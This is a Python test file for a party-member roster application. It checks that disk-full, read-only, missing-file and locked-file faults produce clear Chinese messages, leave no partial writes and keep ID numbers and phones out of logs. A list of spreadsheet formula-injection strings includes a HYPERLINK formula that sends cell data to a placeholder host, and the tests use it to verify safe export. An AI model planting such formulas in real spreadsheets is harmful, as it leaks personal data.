"""Faults during import, export and demo (issue 10): a full disk, a read-only database, a file
held open, an unexpected database error — each ends in a clear Chinese message, leaves nothing
half-written, and puts no ID number or phone into the log file.

A full disk is SQLite's own ``PRAGMA max_page_count`` on every connection the test's database
hands out: SQLite then refuses to grow the file with the very error a full disk gives
(``SQLITE_FULL``, "database or disk is full"), at whatever point the write needs a page — no
root, no tmpfs. A read-only database is ``PRAGMA query_only``, which refuses writes with the
error a read-only file gives (``SQLITE_READONLY``). A full disk under an export is the file
write failing with ``ENOSPC``.
"""

from __future__ import annotations

import errno
import logging
import os
import re
import shutil
import stat
import tempfile
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import event, text
from sqlalchemy.exc import IntegrityError

from dangqun.core.db import Database
from dangqun.core.errors import DatabaseReadOnly, DatabaseUnavailable, DiskFull
from dangqun.core.security import system_actor
from dangqun.demo import generate_demo_data
from dangqun.members import service
from dangqun.members.exporter import ExportError
from dangqun.members.importer import import_roster
from tests.unit.members.conftest import TODAY, make_id, staff_actor

ID_NUMBER = re.compile(r"\d{17}[\dXx]")
PHONE = re.compile(r"1\d{10}")
HEADER = ["姓名", "民族", "身份证号码", "所在支部", "入党日期", "手机号码", "家庭住址", "备注"]
PHONE_COLUMN, NOTES_COLUMN = HEADER.index("手机号码"), HEADER.index("备注")
GIVEN = "一二三四五六七八九十"


def roster_people(count: int = 60) -> list[list[object]]:
    """People with real-looking ID numbers and mobiles: what must never reach a log."""
    return [
        [
            f"王{GIVEN[number % 10]}{GIVEN[number // 10 % 10]}",
            "汉族",
            make_id(sequence=100 + number),
            "第一网格党支部",
            "2010-07-01",
            f"139{number:08d}",
            "五华区翠湖北路12号",
            None,
        ]
        for number in range(count)
    ]


def write_roster(path: Path, rows: list[list[object]]) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # typed as text, even "=…" (see the formula test)
    workbook.save(path)
    return path


def limit_growth(database, spare_pages: int = 0) -> None:
    """From now on the database file may grow by ``spare_pages`` per connection checkout."""

    def limit(dbapi_connection, _record, _proxy) -> None:
        cursor = dbapi_connection.cursor()
        pages = cursor.execute("PRAGMA page_count").fetchone()[0]
        cursor.execute(f"PRAGMA max_page_count = {pages + spare_pages}")
        cursor.close()

    event.listen(database.engine, "checkout", limit)


def make_read_only(database) -> None:
    def refuse_writes(dbapi_connection, _record, _proxy) -> None:
        dbapi_connection.execute("PRAGMA query_only = ON")

    event.listen(database.engine, "checkout", refuse_writes)


def members(database) -> int:
    with database.reading() as session:
        return int(session.execute(text("SELECT count(*) FROM members")).scalar_one())


def log_text(application) -> str:
    for handler in logging.getLogger().handlers:
        handler.flush()
    return (application.paths.logs / "dangqun.log").read_text("utf-8")


def assert_nothing_personal(text: str) -> None:
    assert not ID_NUMBER.search(text), ID_NUMBER.search(text)
    assert not PHONE.search(text), PHONE.search(text)


def test_an_import_on_a_full_disk_says_so_and_saves_nothing(
    application, database, admin, tree, tmp_path
):
    path = write_roster(tmp_path / "roster.xlsx", roster_people())
    limit_growth(database)

    with pytest.raises(DiskFull) as raised:
        import_roster(database, admin, path, today=TODAY)

    assert "磁盘空间已满" in raised.value.message
    assert "本次操作没有保存任何内容" in raised.value.message
    assert "腾出空间" in raised.value.message
    assert members(database) == 0
    # Support reads the log and the cause: neither carries the rows being written.
    logging.getLogger("dangqun.test").error("import failed", exc_info=raised.value)
    assert_nothing_personal(str(raised.value.__cause__))
    logged = log_text(application)
    assert "database or disk is full" in logged
    assert_nothing_personal(logged)


def test_an_unexpected_integrity_error_names_no_values(
    application, database, admin, tree, tmp_path
):
    """A real constraint violation at the write: the error keeps the statement, not the rows."""
    with database.unit_of_work(admin) as work:  # a rule the importer does not know about
        work.session.execute(text("CREATE UNIQUE INDEX test_one_phone ON members (phone)"))
        work.commit()
    people = roster_people(20)
    people[7][PHONE_COLUMN] = people[3][PHONE_COLUMN]
    path = write_roster(tmp_path / "roster.xlsx", people)

    with pytest.raises(IntegrityError) as raised:
        import_roster(database, admin, path, today=TODAY)

    assert "UNIQUE constraint failed: members.phone" in str(raised.value)
    assert "[SQL parameters hidden" in str(raised.value)
    assert_nothing_personal(str(raised.value))
    logging.getLogger("dangqun.test").error("import failed", exc_info=raised.value)
    assert_nothing_personal(log_text(application))
    assert members(database) == 0


def test_the_demo_on_a_full_disk_says_so_and_leaves_the_center_empty(application, database):
    limit_growth(database)
    with pytest.raises(DiskFull, match=r"磁盘空间已满.*本次操作没有保存任何内容"):
        generate_demo_data(database, system_actor("测试"), 300)
    assert members(database) == 0
    with database.reading() as session:
        assert not session.execute(
            text("SELECT 1 FROM audit_log WHERE action='demo.generate'")
        ).all()


@pytest.mark.parametrize("writing", [False, True], ids=["reading", "writing"])
def test_a_database_on_a_vanished_disk_is_named_in_a_message(tmp_path, writing):
    """A USB stick pulled out: SQLite cannot open the file again."""
    stick = tmp_path / "stick"
    stick.mkdir()
    database = Database(stick / "dangqun.sqlite3")
    database.dispose()
    shutil.rmtree(stick)
    outcome = "本次操作没有保存任何内容" if writing else "数据库中的数据没有被改动"
    with pytest.raises(DatabaseUnavailable, match=f"无法打开数据库文件“.*”，{outcome}"):
        if writing:
            with database.unit_of_work(system_actor("测试")) as work:
                work.session.execute(text("CREATE TABLE t (x)"))
                work.commit()
        else:
            with database.reading() as session:
                session.execute(text("SELECT 1"))


def test_a_read_only_database_refuses_import_and_export_with_a_message(
    database, admin, tree, tmp_path
):
    path = write_roster(tmp_path / "roster.xlsx", roster_people(5))
    assert import_roster(database, admin, path, today=TODAY).written
    make_read_only(database)

    with pytest.raises(DatabaseReadOnly, match=r"数据库文件是只读的.*没有保存任何内容") as raised:
        import_roster(database, admin, write_roster(tmp_path / "more.xlsx", roster_people(8)))
    assert str(database.path) in raised.value.message
    assert members(database) == 5

    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(DatabaseReadOnly):
        service.export_members(database, admin, service.MemberQuery(), out / "list.xlsx")
    # The export could not be audited, so it does not exist: no temporary file either.
    assert list(out.iterdir()) == []


def test_an_export_on_a_full_disk_leaves_no_partial_file_and_keeps_the_older_one(
    database, admin, tree, tmp_path, monkeypatch
):
    assert import_roster(
        database, admin, write_roster(tmp_path / "in.xlsx", roster_people(5))
    ).written
    out = tmp_path / "out"
    out.mkdir()
    older = out / "list.xlsx"
    older.write_bytes(b"yesterday's export")
    system_temp = tmp_path / "system-temp"  # where openpyxl buffers a write-only sheet's rows
    system_temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_temp))
    real_writestr = zipfile.ZipFile.writestr
    written: list[str] = []

    def fill_the_disk(archive, name, *args, **kwargs):
        if written:  # the first part reaches the disk, then the disk is full
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        written.append(str(name))
        return real_writestr(archive, name, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "writestr", fill_the_disk)

    with pytest.raises(ExportError) as raised:
        service.export_members(database, admin, service.MemberQuery(), older)

    assert written
    assert "磁盘空间不足" in raised.value.message and "没有留下不完整的文件" in raised.value.message
    assert "Excel" not in raised.value.message
    assert [path.name for path in out.iterdir()] == ["list.xlsx"]
    assert older.read_bytes() == b"yesterday's export"
    assert list(system_temp.iterdir()) == []  # no copy of the rows left behind either
    with database.reading() as session:
        assert not session.execute(
            text("SELECT 1 FROM audit_log WHERE action='members.export'")
        ).all()


def test_an_export_over_a_file_open_in_excel_says_so_and_leaves_nothing_beside_it(
    database, admin, tree, tmp_path, monkeypatch
):
    assert import_roster(
        database, admin, write_roster(tmp_path / "in.xlsx", roster_people(3))
    ).written
    out = tmp_path / "out"
    out.mkdir()
    (out / "list.xlsx").write_bytes(b"open in Excel")

    def locked(_source, _target):  # what Windows does while Excel holds the file
        raise PermissionError(errno.EACCES, "Access is denied")

    monkeypatch.setattr(os, "replace", locked)
    with pytest.raises(ExportError, match="可能正在 Excel 或 WPS 中打开"):
        service.export_members(database, admin, service.MemberQuery(), out / "list.xlsx")
    assert [path.name for path in out.iterdir()] == ["list.xlsx"]
    assert (out / "list.xlsx").read_bytes() == b"open in Excel"
    with database.reading() as session:  # the export that did not happen is not recorded
        assert not session.execute(
            text("SELECT 1 FROM audit_log WHERE action='members.export'")
        ).all()


def test_an_export_into_a_missing_folder_says_so(database, admin, tree, tmp_path):
    with pytest.raises(ExportError, match="不存在"):
        service.export_members(database, admin, service.MemberQuery(), tmp_path / "no" / "a.xlsx")


def test_an_export_is_created_owner_only(database, admin, tree, tmp_path):
    assert import_roster(
        database, admin, write_roster(tmp_path / "in.xlsx", roster_people(3))
    ).written
    previous = os.umask(0o022)  # as a desktop session would have it
    try:
        result = service.export_members(database, admin, service.MemberQuery(), tmp_path / "x.xlsx")
    finally:
        os.umask(previous)
    assert stat.S_IMODE(result.path.stat().st_mode) == 0o600
    assert [path.name for path in tmp_path.iterdir() if path.name.endswith(".partial")] == []


FORMULAS = [
    '=HYPERLINK("http://example.invalid/?q="&E2,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
]


def test_text_that_looks_like_a_formula_is_exported_as_text(database, admin, tree, tmp_path):
    people = roster_people(len(FORMULAS))
    for person, notes in zip(people, FORMULAS, strict=True):
        person[NOTES_COLUMN] = notes
    assert import_roster(database, admin, write_roster(tmp_path / "in.xlsx", people)).written

    for actor, name in ((admin, "full.xlsx"), (staff_actor(), "masked.xlsx")):
        path = service.export_members(database, actor, service.MemberQuery(), tmp_path / name).path
        sheet = load_workbook(path).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        notes = {cell.value for cell in cells if cell.column_letter == "V" and cell.row > 1}
        assert notes == set(FORMULAS)
        formula_like = [cell for cell in cells if cell.value in FORMULAS]
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in formula_like)
